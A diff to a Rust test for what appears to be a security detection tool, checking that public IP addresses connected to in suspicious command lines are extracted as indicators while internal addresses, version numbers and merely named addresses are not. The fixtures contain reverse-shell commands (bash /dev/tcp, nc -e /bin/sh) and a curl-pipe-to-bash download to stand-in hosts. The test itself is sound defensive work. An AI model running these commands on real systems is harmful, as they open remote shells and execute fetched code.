@@ -664,8 +664,9 @@ fn one_finding_under_three_tactics_does_not_raise_the_severity() {
 
 /// On Linux the reverse shell's address is only in its command line
 /// (auditd has no network event for it): "block 0 IP(s)" after a detected
-/// `/dev/tcp` reverse shell. Public addresses in a command line are in
-/// scope; internal ones and version numbers are not.
+/// `/dev/tcp` reverse shell. Public addresses a command line connects to
+/// are in scope; internal ones, version numbers and addresses it merely
+/// names (netsh's listen address, the host's own) are not.
 #[test]
 fn public_addresses_in_a_command_line_are_in_scope() {
     let fs = vec![
@@ -677,7 +678,7 @@ fn public_addresses_in_a_command_line_are_in_scope() {
             &["T1059.004"],
             &[(
                 "CommandLine",
-                "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1; curl -s http://198.51.100.7:8080/x.sh | bash",
+                "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1; curl -s http://198.51.100.7:8080/x.sh | bash; nc -e /bin/sh 192.0.2.80 4444",
             )],
         ),
         finding(
@@ -688,7 +689,7 @@ fn public_addresses_in_a_command_line_are_in_scope() {
             &["T1046"],
             &[(
                 "CommandLine",
-                "nmap 10.0.0.0/24 --version 10.0.19041.1 -oN out.1.2.3",
+                "nmap 10.0.0.0/24 --version 10.0.19041.1 -oN out.1.2.3; netsh i p a v listenaddress=1.2.3.4 connectport=3389",
             )],
         ),
     ];
@@ -699,8 +700,8 @@ fn public_addresses_in_a_command_line_are_in_scope() {
         .map(|e| (e.value.as_str(), e.roles.as_slice()))
         .collect();
     let values: Vec<&str> = ips.iter().map(|(v, _)| *v).collect();
-    assert_eq!(values.len(), 2, "{ips:?}");
-    for want in ["203.0.113.50", "198.51.100.7"] {
+    assert_eq!(values.len(), 3, "{ips:?}");
+    for want in ["203.0.113.50", "198.51.100.7", "192.0.2.80"] {
         let (_, roles) = ips.iter().find(|(v, _)| *v == want).expect(want);
         assert!(roles.contains(&"command line"), "{want}: {roles:?}");
     }
